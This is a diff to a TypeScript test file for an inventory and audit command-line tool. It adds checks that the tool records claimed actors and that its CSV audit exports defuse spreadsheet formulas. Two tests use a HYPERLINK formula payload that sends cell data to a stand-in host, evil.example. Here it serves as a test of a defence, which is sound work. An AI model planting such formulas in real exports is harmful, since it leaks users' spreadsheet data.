@@ -1,6 +1,6 @@
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { tmpdir, userInfo } from 'node:os';
 import { join } from 'node:path';
 import { sql } from 'kysely';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -28,10 +28,10 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
   });
 
   it('imports the example, says nothing changed the second time, and exports what reads back the same', async () => {
-    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps())).toBe(
+    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps())).toBe(
       `${EXAMPLE}: people: 3 added, 0 updated, 0 unchanged; policies: 2 added, 0 updated, 0 unchanged; systems: 3 added, 0 updated, 0 unchanged; patches: 5 added, 0 updated, 0 unchanged\n`,
     );
-    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps())).toMatch(
+    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps())).toMatch(
       /patches: 0 added, 0 updated, 5 unchanged \(nothing changed\)\n$/,
     );
     const yaml = await runInventoryExport({}, { store });
@@ -43,41 +43,56 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
     expect(exported.patches).toHaveLength(original.patches.length);
     // The export imports as "nothing changed": the round trip through the store is exact.
     writeFileSync(join(dir, 'export.yaml'), yaml);
-    expect(await runInventoryImport({ file: join(dir, 'export.yaml'), actor: 'alice' }, deps())).toMatch(
+    expect(await runInventoryImport({ file: join(dir, 'export.yaml'), actor: 'alice', claimed: true }, deps())).toMatch(
       /\(nothing changed\)/,
     );
     // A CSV of one kind imports too.
     writeFileSync(join(dir, 'patches.csv'), await runInventoryExport({ format: 'csv', kind: 'patches' }, { store }));
-    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toBe(
+    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice', claimed: true }, deps())).toBe(
       `${join(dir, 'patches.csv')}: patches: 0 added, 0 updated, 5 unchanged (nothing changed)\n`,
     );
   });
 
   it('exports a title a spreadsheet would run as a formula with a leading quote, and the export imports as nothing changed', async () => {
-    await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps());
+    await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps());
     const hostile = `${readFileSync(EXAMPLE, 'utf8').replace(/^patches:\n/m, 'patches:\n  - system: mail-gw-1\n    title: \'=HYPERLINK("http://evil.example/?x="&A1,"Fix")\'\n    severity: low\n    released: 2026-11-01\n  - system: mail-gw-1\n    title: "-5"\n    severity: low\n    released: 2026-11-02\n')}`;
     writeFileSync(join(dir, 'hostile.yaml'), hostile);
-    expect(await runInventoryImport({ file: join(dir, 'hostile.yaml'), actor: 'alice' }, deps())).toMatch(
-      /patches: 2 added/,
-    );
+    expect(
+      await runInventoryImport({ file: join(dir, 'hostile.yaml'), actor: 'alice', claimed: true }, deps()),
+    ).toMatch(/patches: 2 added/);
     const csv = await runInventoryExport({ format: 'csv', kind: 'patches' }, { store });
     expect(csv).toContain(`mail-gw-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Fix"")",,low,2026-11-01,`);
     expect(csv).toContain('mail-gw-1,-5,,low,2026-11-02,');
     writeFileSync(join(dir, 'patches.csv'), csv);
-    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice' }, deps())).toMatch(
+    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice', claimed: true }, deps())).toMatch(
       /patches: 0 added, 0 updated, \d+ unchanged \(nothing changed\)\n$/,
     );
   });
 
+  it('exports audit cells a spreadsheet would run as formulas with a leading quote, as the inventory export does', async () => {
+    // --as takes any text: the actor of every entry the import writes.
+    const actor = '=HYPERLINK("http://evil.example/?x="&A1,"alice")';
+    await runInventoryImport({ file: EXAMPLE, actor, claimed: true }, deps());
+    const csv: string[] = [];
+    await runAuditExport({ format: 'csv' }, { store, now: () => now, write: (text) => csv.push(text) });
+    const [header, first] = csv.join('').split('\n');
+    expect(header).toBe('seq,at,actor,action,system,surface,details,prev_hash,hash');
+    expect(first).toMatch(
+      /^1,2026-11-20T10:00:00\.000Z,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""alice""\)",person-added,,"cli, claimed","\{/,
+    );
+  });
+
   it('refuses bad input with a specific message and writes nothing', async () => {
-    await expect(runInventoryImport({ file: join(dir, 'inventory.txt'), actor: 'a' }, deps())).rejects.toThrow(
-      'use --format yaml or --format csv',
-    );
-    await expect(runInventoryImport({ file: join(dir, 'missing.yaml'), actor: 'a' }, deps())).rejects.toThrow(
-      /cannot read .*missing.yaml: ENOENT/,
-    );
+    await expect(
+      runInventoryImport({ file: join(dir, 'inventory.txt'), actor: 'a', claimed: true }, deps()),
+    ).rejects.toThrow('use --format yaml or --format csv');
+    await expect(
+      runInventoryImport({ file: join(dir, 'missing.yaml'), actor: 'a', claimed: true }, deps()),
+    ).rejects.toThrow(/cannot read .*missing.yaml: ENOENT/);
     writeFileSync(join(dir, 'bad.yaml'), 'systems:\n  - name: s1\n    criticality: urgent\n');
-    await expect(runInventoryImport({ file: join(dir, 'bad.yaml'), actor: 'a' }, deps())).rejects.toThrow(
+    await expect(
+      runInventoryImport({ file: join(dir, 'bad.yaml'), actor: 'a', claimed: true }, deps()),
+    ).rejects.toThrow(
       /bad.yaml:3: systems\[0\]\.criticality: must be one of critical, high, medium, low \(got "urgent"\)/,
     );
     await expect(runInventoryExport({ format: 'csv' }, { store })).rejects.toThrow('add --kind people|systems|patches');
@@ -89,7 +104,7 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
   });
 
   it('verifies the audit log, names the first broken entry, and exports it as JSON or CSV from a date', async () => {
-    await runInventoryImport({ file: EXAMPLE, actor: 'alice' }, deps());
+    await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps());
     expect((await runAuditVerify({ store })).exitCode).toBe(0);
     const chunks: string[] = [];
     await runAuditExport(
@@ -119,7 +134,7 @@ describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) =>
 
 describe('the mxops command line', () => {
   it(
-    'imports, verifies, prints the outage calendar, and exits 2 on bad input',
+    'imports (recording --as as claimed), verifies, prints the outage calendar, and exits 2 on bad input',
     async () => {
       const dir = mkdtempSync(join(tmpdir(), 'mxops-cli-'));
       const run = (...args: string[]) => runMxops(args, { DATABASE_URL: `sqlite:${join(dir, 'cli.sqlite')}` });
@@ -132,6 +147,14 @@ describe('the mxops command line', () => {
           code: 0,
           stdout: expect.stringMatching(/^audit log intact: 14 entries, head [0-9a-f]{64}\n$/),
         });
+        // --as is taken on trust: recorded as claimed. Without it, the OS account running mxops.
+        writeFileSync(join(dir, 'people.csv'), 'handle,name,timeZone\ndave,Dave Ops,UTC\n');
+        expect(await run('inventory', 'import', join(dir, 'people.csv'))).toMatchObject({ code: 0 });
+        const exported = await run('audit', 'export', '--format', 'json');
+        const who = (JSON.parse(exported.stdout) as { actor: string; surface: string }[]).map(
+          (entry) => `${entry.actor} (${entry.surface})`,
+        );
+        expect(new Set(who)).toEqual(new Set(['alice (cli, claimed)', `cli:${userInfo().username} (cli)`]));
         const calendar = await run('outage', 'calendar', '--since', '7d');
         expect(calendar).toMatchObject({
           code: 0,
@@ -150,6 +173,6 @@ describe('the mxops command line', () => {
         rmSync(dir, { recursive: true, force: true });
       }
     },
-    budget(5),
+    budget(7),
   );
 });
